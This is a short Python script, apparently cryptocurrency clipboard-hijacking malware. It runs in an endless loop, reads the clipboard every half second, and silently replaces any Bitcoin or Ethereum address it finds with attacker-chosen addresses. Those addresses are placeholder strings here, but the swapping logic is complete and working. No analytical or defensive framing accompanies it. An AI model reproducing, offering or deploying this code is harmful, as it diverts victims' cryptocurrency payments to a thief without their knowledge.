import re
import time

import pyperclip

FORMS = {
    "btc": r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$",
    "eth": r"^0x[a-fA-F0-9]{40}$",
}
OURS = {"btc": "first address of nobody", "eth": "second address of nobody"}

while True:
    text = pyperclip.paste()
    for kind, form in FORMS.items():
        if re.match(form, text) and text != OURS[kind]:
            pyperclip.copy(OURS[kind])
    time.sleep(0.5)
